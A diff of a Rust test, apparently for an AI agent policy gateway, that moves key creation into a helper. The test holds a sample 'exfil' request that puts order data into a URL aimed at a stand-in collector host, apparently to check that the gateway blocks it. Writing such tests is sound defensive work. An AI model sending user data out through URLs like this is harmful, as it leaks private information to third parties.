@@ -219,14 +219,7 @@ enum = ["read"]
 "#,
     )
     .await;
-    let key = gw
-        .key(halberd_store::KeySpec {
-            name: "agents".into(),
-            policy: Some("agents".into()),
-            ..halberd_store::KeySpec::default()
-        })
-        .await
-        .key;
+    let key = crate::policy_key(&gw, "agents").await;
     let allowed = r#"{"url": "https://api.example.com/orders/7", "mode": "read"}"#;
     let exfil = r#"{"url": "https://collector.example/?d=order+7+for+ann", "mode": "read"}"#;
     for path in PATHS {
